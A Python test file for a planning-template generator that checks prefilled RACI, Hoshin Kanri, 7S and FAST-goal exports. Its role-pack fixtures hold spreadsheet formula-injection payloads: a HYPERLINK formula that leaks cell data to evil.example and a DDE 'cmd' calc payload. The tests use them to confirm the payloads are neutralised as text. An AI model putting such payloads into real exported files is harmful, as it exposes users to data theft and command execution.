"""The role examples of `knowledge/examples/roles/` (EOS Rocks and measurables, V2MOM methods
and measures, SMART goals, Hoshin Kanri objectives and priorities, RACI activities) and the four
templates they and the OKRs prefill: RACI matrix, McKinsey 7S diagnostic, Hoshin Kanri X-matrix,
FAST goals. Each file is read back (openpyxl, python-docx, csv); a pack's role file is checked
with file and line, replaces ours by name, and its text stays text in every format. Whether the
formulas compute is in test_template_formulas.py (LibreOffice)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
import yaml
from click.testing import Result
from docx import Document

from framework_advisor.domain.contract import FIXED_QUESTIONS
from framework_advisor.domain.examples import (
    AnnualObjective,
    ImprovementPriority,
    RaciActivity,
)
from framework_advisor.domain.knowledge import KnowledgeBase
from framework_advisor.engine.examples import select_examples
from framework_advisor.exports import template_files

from ..conftest import ROOT, build_tree, knowledge
from .hostile import docx_text, markdown_hazards

Run = Callable[..., Result]
TODAY = dt.date(2026, 1, 15)
ROLE_FILES = sorted((ROOT / "knowledge" / "examples" / "roles").glob("*.yaml"))
NEW = {
    "raci": "raci-matrix",
    "mckinsey_7s": "mckinsey-7s-diagnostic",
    "hoshin_kanri": "hoshin-kanri-x-matrix",
    "fast": "fast-goals",
}
KB = knowledge()
FUNCTIONS = FIXED_QUESTIONS["function"][1]
INDUSTRIES = [None, *FIXED_QUESTIONS["industry"][1]]
RACI_ROLES = ("sponsor", "project_lead", "hr", "finance", "line_managers", "staff")


def _area(function: str, industry: str | None) -> dict[str, str]:
    """Answers naming a function and (when given) an industry, as the selection reads them."""
    return {"function": function, **({"industry": industry} if industry else {})}


def files(tid: str, fmt: str, function: str = "company", industry: str | None = "manufacturing"):
    chosen = select_examples(KB, _area(function, industry))
    return {f.name: f.data for f in template_files(KB, [tid], fmt, chosen, today=TODAY)}


def workbook(tid: str, **kwargs: str | None) -> openpyxl.Workbook:
    [data] = files(tid, "xlsx", **kwargs).values()
    return openpyxl.load_workbook(io.BytesIO(data))


def column(ws, header: str) -> list:
    """The values under a header (row 3), down to the last filled row."""
    headers = [cell.value for cell in ws[3]]
    index = headers.index(header)
    return [row[index] for row in ws.iter_rows(min_row=4, values_only=True)]


def filled(values: list) -> list:
    return [v for v in values if v not in (None, "")]


# -- the role examples ---------------------------------------------------------------------


def test_every_role_file_cites_its_sources_and_every_entry_its_provenance() -> None:
    assert ROLE_FILES
    for path in ROLE_FILES:
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        assert data["sources"], path.name
        for source in data["sources"]:
            assert source["title"] and source["author"] and source.get("year"), path.name
        for entry in data["roles"]:
            assert entry["source"] in ("seed", "common_practice"), (path.name, entry["metric"])


@pytest.mark.parametrize("function", FUNCTIONS)
def test_every_organisation_gets_each_new_role(kb: KnowledgeBase, function: str) -> None:
    """The role files join the company-wide set: a role no function or industry writes is
    there for every function and industry."""
    new_roles = {
        entry["role"]
        for path in ROLE_FILES
        for entry in yaml.safe_load(path.read_text(encoding="utf-8"))["roles"]
    }
    assert {"rock", "measurable", "v2mom_method", "v2mom_measure", "smart_goal"} <= new_roles
    assert {"breakthrough_objective", "annual_objective", "raci_activity"} <= new_roles
    for industry in INDUSTRIES:
        chosen = select_examples(kb, _area(function, industry))
        for role in new_roles:
            assert chosen.of_role(role), (function, industry, role)


def test_the_raci_examples_have_one_accountable_and_a_responsible_per_row(
    kb: KnowledgeBase,
) -> None:
    rows = kb.examples["function:company"].of_role("raci_activity")
    assert rows
    for row in rows:
        assert isinstance(row, RaciActivity)
        letters = [getattr(row, key) for key in RACI_ROLES]
        assert sum(letter in ("A", "A/R") for letter in letters) == 1, row.activity
        assert any(letter in ("R", "A/R") for letter in letters), row.activity


def test_hoshin_examples_link_up_to_a_breakthrough_objective(kb: KnowledgeBase) -> None:
    roles = kb.examples["function:company"].roles
    metrics = {entry.metric: entry for entry in roles}
    for entry in roles:
        if isinstance(entry, ImprovementPriority):
            assert isinstance(metrics[entry.drives], AnnualObjective), entry.priority
        if isinstance(entry, AnnualObjective):
            assert type(metrics[entry.drives]).__name__ == "BreakthroughObjective"


# -- the four templates --------------------------------------------------------------------


PLANS = {
    "a restructuring": (
        {"headcount": 800, "function": "company", "industry": "financial_services",
         "needs": ["role_clarity", "org_diagnosis"]},
        "mckinsey-7s-diagnostic",
    ),
    "clear roles": (
        {"headcount": 800, "function": "company", "industry": "financial_services",
         "needs": ["role_clarity"]},
        "raci-matrix",
    ),
    "a manufacturer's transformation": (
        {"headcount": 5000, "function": "company", "industry": "manufacturing",
         "needs": ["long_term_transformation"], "planning_horizon": "multi_year"},
        "hoshin-kanri-x-matrix",
    ),
    "ambitious public goals": (
        {"headcount": 120, "function": "company", "industry": "software",
         "needs": ["ambitious_transparent_goals"]},
        "fast-goals",
    ),
}  # fmt: skip


@pytest.mark.parametrize("plan", list(PLANS))
def test_a_plan_with_the_framework_gets_its_template_prefilled(
    kb: KnowledgeBase, plan: str
) -> None:
    from framework_advisor.exports import Documents

    raw, tid = PLANS[plan]
    answers = read_answers_text(kb, raw)
    docs = Documents(kb, answers, sensitivity=False)
    assert tid in docs.mix_templates().templates, docs.recommendation.phases
    assert not docs.mix_templates().uncovered
    [file] = docs.templates([tid], "xlsx")
    first = openpyxl.load_workbook(io.BytesIO(file.data)).worksheets[0]
    assert first.cell(4, 1).value  # a prefilled (or fixed) first row


def read_answers_text(kb: KnowledgeBase, raw: dict):
    from framework_advisor.engine.answers import validate_answers

    return validate_answers(kb, raw)


def test_raci_matrix_is_prefilled_and_reads_back(kb: KnowledgeBase) -> None:
    matrix = workbook("raci-matrix")["Matrix"]
    expected = kb.examples["function:company"].of_role("raci_activity")
    activities = filled(column(matrix, "Activity or decision"))
    assert activities == [entry.activity for entry in expected][: len(activities)]
    assert len(activities) == len(expected)
    first = expected[0]
    assert isinstance(first, RaciActivity)
    headers = [cell.value for cell in matrix[3]]
    for key, header in zip(RACI_ROLES, headers[1:7], strict=True):
        assert (matrix.cell(4, headers.index(header) + 1).value or "") == getattr(first, key)
    check = matrix.cell(4, headers.index("Check") + 1).value
    assert check.startswith('=IF(A4=""') and "COUNTIF" not in check  # counts in A's and R's
    accountable = matrix.cell(4, headers.index("A's") + 1).value
    assert accountable == '=IF(A4="","",COUNTIF(B4:G4,"A")+COUNTIF(B4:G4,"A/R"))'
    choices = [v for v in matrix.data_validations.dataValidation if v.type == "list"]
    assert any(v.formula1 == '"R,A,C,I,A/R"' for v in choices)
    roles = workbook("raci-matrix")["Roles"]
    assert filled(column(roles, "Role (as in the matrix)"))[:6] == headers[1:7]


def test_hoshin_matrix_links_each_level_to_the_one_above() -> None:
    wb = workbook("hoshin-kanri-x-matrix")
    breakthrough = filled(column(wb["Breakthrough"], "Breakthrough objective (3-5 years)"))
    annual = filled(column(wb["Annual"], "Annual objective (this year)"))
    serves = filled(column(wb["Annual"], "Serves (breakthrough objective)"))
    delivers = filled(column(wb["Priorities"], "Delivers (annual objective)"))
    assert breakthrough and annual and delivers
    assert set(serves) <= set(breakthrough) and len(serves) == len(annual)
    assert set(delivers) <= set(annual)
    assert set(filled(column(wb["Priorities"], "Catchball"))) == {"Proposed"}
    lists = [v.formula1 for v in wb["Annual"].data_validations.dataValidation]
    assert any(f and f.startswith("Breakthrough!$A$4:$A$") for f in lists), lists


def test_fast_goals_carry_the_okrs_and_the_7s_its_seven_elements(kb: KnowledgeBase) -> None:
    goals = workbook("fast-goals")["Goals"]
    chosen = select_examples(kb, _area("company", "manufacturing"))
    assert filled(column(goals, "Goal")) == [okr.objective for okr in chosen.okrs][:5]
    diagnostic = workbook("mckinsey-7s-diagnostic")["Diagnostic"]
    elements = filled(column(diagnostic, "Element"))
    assert elements == [
        "Shared values", "Strategy", "Structure", "Systems", "Style", "Staff", "Skills",
    ]  # fmt: skip
    alignment = workbook("mckinsey-7s-diagnostic")["Alignment"]
    assert [c.value for c in alignment[3]][1:8] == elements


@pytest.mark.parametrize("tid", list(NEW.values()))
def test_word_and_csv_hold_the_prefilled_rows(tid: str) -> None:
    document = Document(io.BytesIO(files(tid, "docx")[f"{tid}.docx"]))
    tables = [
        [[cell.text for cell in row.cells] for row in table.rows] for table in document.tables
    ]
    workbook_sheets = [ws for ws in workbook(tid).worksheets if ws.title != "How to use"]
    assert len(tables) >= len(workbook_sheets)
    for ws in workbook_sheets:
        first = ws.cell(4, 1).value
        assert any(first in row for table in tables for row in table), (ws.title, first)
    texts = files(tid, "csv")
    assert len(texts) == len(workbook_sheets)
    for name, data in texts.items():
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        assert rows[0] and rows[1][0], name


# -- packs: checked, replacing ours, text as text ------------------------------------------

PACK = "name: roles\nversion: '1'\nschema_version: 2\n"
EVIL_RACI = """\
title: Evil RACI
sources:
  - {title: A guide, author: Someone, year: 2020}
roles:
  - role: raci_activity
    metric: evil_one
    activity: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"Click me\\")"
    sponsor: A
    staff: R
  - role: raci_activity
    metric: evil_two
    activity: "+cmd|' /C calc'!A0 \\vand a tab\\x01"
    hr: A/R
"""
EVIL_HOSHIN = """\
title: Evil Hoshin
sources:
  - {title: A guide, author: Someone, year: 2020}
roles:
  - role: breakthrough_objective
    metric: evil_breakthrough
    objective: "@SUM(1+1)*cmd"
    measure: "-2+3"
    target: "**bold** <b>html</b> [link](http://evil.example/)"
    owner: Owner
  - role: annual_objective
    metric: evil_annual
    objective: Annual
    measure: m
    target: t
    owner: o
    drives: evil_breakthrough
  - role: improvement_priority
    metric: evil_priority
    priority: Priority
    measure: m
    target: t
    owner: o
    drives: evil_annual
"""


def role_pack(tmp_path: Path, roles: dict[str, str]) -> Path:
    return build_tree(
        tmp_path / "pack",
        {"pack.yaml": PACK, **{f"examples/roles/{name}.yaml": t for name, t in roles.items()}},
    )


def test_a_pack_role_file_replaces_ours_and_its_text_stays_text(
    run_cli: Run, write_answers: Callable[..., Path], tmp_path: Path
) -> None:
    folder = role_pack(tmp_path, {"raci": EVIL_RACI, "hoshin_kanri": EVIL_HOSHIN})
    answers = write_answers({"function": "company", "headcount": 300, "needs": ["alignment"]})
    for fmt in ("xlsx", "csv", "md", "docx"):
        result = run_cli("--kb", folder, "templates", "raci", "hoshin_kanri", "--answers",
                         answers, "-f", fmt, "--out", tmp_path / fmt)  # fmt: skip
        assert result.exit_code == 0, result.stderr
    matrix = openpyxl.load_workbook(tmp_path / "xlsx" / "raci-matrix.xlsx")["Matrix"]
    assert matrix["A4"].value == '\'=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    assert matrix["A4"].data_type == "s"
    assert matrix["A5"].value == "'+cmd|' /C calc'!A0  and a tab "  # control characters: spaces
    assert matrix["A6"].value is None  # ours are replaced, not added to
    hoshin = openpyxl.load_workbook(tmp_path / "xlsx" / "hoshin-kanri-x-matrix.xlsx")
    assert hoshin["Breakthrough"]["A4"].value == "'@SUM(1+1)*cmd"
    assert hoshin["Breakthrough"]["B4"].value == "'-2+3"
    assert hoshin["Annual"]["B4"].value == "'@SUM(1+1)*cmd"  # what it serves, as text too
    for wb in (openpyxl.load_workbook(tmp_path / "xlsx" / "raci-matrix.xlsx"), hoshin):
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert not re.search(r"HYPERLINK|cmd|SUM\(1", cell.value), cell.value
    for path in (tmp_path / "csv").iterdir():
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            for value in row:
                assert not (value.startswith(("=", "+", "-", "@")) and "cmd" in value), value
    markdown = (tmp_path / "md" / "hoshin-kanri-x-matrix.md").read_text(encoding="utf-8")
    assert "&lt;b>html&lt;/b>" in markdown and markdown_hazards(markdown) == []
    word = docx_text(tmp_path / "docx" / "raci-matrix.docx")
    assert '=HYPERLINK("http://evil.example/?"&A1,"Click me")' in word
    assert not any(ch in word for ch in "\v\x01")


BAD_ROLE_FILES = {
    "an unknown field": (
        EVIL_HOSHIN.replace("    owner: o\n", "    owner: o\n    ownr: x\n"),
        "roles[1].ownr: unknown field",
    ),
    "an annual objective serving no example's metric": (
        EVIL_HOSHIN.replace("drives: evil_breakthrough", "drives: evil_breakthru"),
        "roles[1].drives: no example has the metric 'evil_breakthru'. Did you mean",
    ),
    "a RACI letter that is not R, A, C or I": (
        EVIL_RACI.replace("    staff: R\n", "    staff: X\n"),
        "roles[0].staff",
    ),
    "no sources": (
        EVIL_RACI.replace("  - {title: A guide, author: Someone, year: 2020}\n", ""),
        "sources",
    ),
}


@pytest.mark.parametrize("case", list(BAD_ROLE_FILES))
def test_a_bad_role_file_is_a_located_error(run_cli: Run, tmp_path: Path, case: str) -> None:
    text, expected = BAD_ROLE_FILES[case]
    result = run_cli("--kb", role_pack(tmp_path, {"mine": text}), "validate")
    assert result.exit_code == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert re.search(r"examples/roles/mine\.yaml:\d+: ", result.stderr), result.stderr
    assert expected in result.stderr, result.stderr


# -- client text ---------------------------------------------------------------------------


FILLS = [(None, None), ("company", "manufacturing"), ("sales", "software"), ("hr", "healthcare")]


@pytest.mark.parametrize("tid", list(NEW.values()))
@pytest.mark.parametrize(("function", "industry"), FILLS)
def test_the_new_templates_carry_no_ids_or_working_notes(
    kb: KnowledgeBase, tid: str, function: str | None, industry: str | None
) -> None:
    """The no-ids scanner over each template's Markdown: worked example and prefilled. The
    line saying which example sets prefilled it ("for function hr") is every template's, and
    names the sets by id: issue 24 rewrites it, so it is left out here."""
    from framework_advisor.domain.client_text import Vocabulary

    chosen = None if function is None else select_examples(kb, _area(function, industry))
    [file] = template_files(kb, [tid], "md", chosen, today=TODAY)
    lines = file.data.decode("utf-8").splitlines()
    text = "\n".join(line for line in lines if not line.startswith("*Prefilled with"))
    assert len(text.splitlines()) >= len(lines) - 1
    found = Vocabulary(kb).leaks(text)
    assert not found, "\n".join(map(str, found))
    assert "[baseline]" not in text or chosen is not None  # placeholders only in prefilled rows


# -- the older templates draw on the new roles ---------------------------------------------


@pytest.mark.parametrize("function", FUNCTIONS)
def test_rocks_methods_measures_and_smart_goals_come_from_their_roles(function: str) -> None:
    """EOS Rocks are 90-day priorities with an owner (never an OKR's key result); V2MOM's
    methods and measures and the SMART worksheet's goals are written for those frameworks."""
    chosen = select_examples(KB, _area(function, "manufacturing"))
    rocks = column(workbook("eos-vto", function=function)["Rocks"], "Rock")
    assert filled(rocks) == [r.rock for r in chosen.of_role("rock")][:5]
    owners = filled(column(workbook("eos-vto", function=function)["Rocks"], "Owner"))
    assert owners == [r.owner for r in chosen.of_role("rock")][:5]
    annual = workbook("v2mom-planner", function=function)["Annual"]
    parts = column(annual, "Part")
    entries = column(annual, "Entry")
    methods = [e for p, e in zip(parts, entries, strict=True) if p == "Methods" and e]
    expected = sorted(chosen.of_role("v2mom_method"), key=lambda m: m.priority)
    assert methods == [m.method for m in expected][:4]
    measures = [e for p, e in zip(parts, entries, strict=True) if p == "Measures" and e]
    assert measures == [m.measure for m in chosen.of_role("v2mom_measure")][:4]
    goals = workbook("smart-worksheet", function=function)["Goals"]
    assert (
        filled(column(goals, "Goal (first draft)"))
        == [g.goal for g in chosen.of_role("smart_goal")][:5]
    )
    assert len(filled(column(goals, "SMART goal (final wording)"))) == len(
        filled(column(goals, "Goal (first draft)"))
    )


def test_the_eos_scorecard_holds_the_measurables_with_their_owners() -> None:
    chosen = select_examples(KB, _area("operations", "retail"))
    scorecard = workbook("eos-vto", function="operations", industry="retail")["Scorecard"]
    expected = chosen.of_role("measurable")
    assert expected
    assert filled(column(scorecard, "Measurable")) == [m.name for m in expected][:10]
    assert filled(column(scorecard, "Owner")) == [m.owner for m in expected][:10]
    assert filled(column(scorecard, "Weekly goal")) == [m.weekly_goal for m in expected][:10]
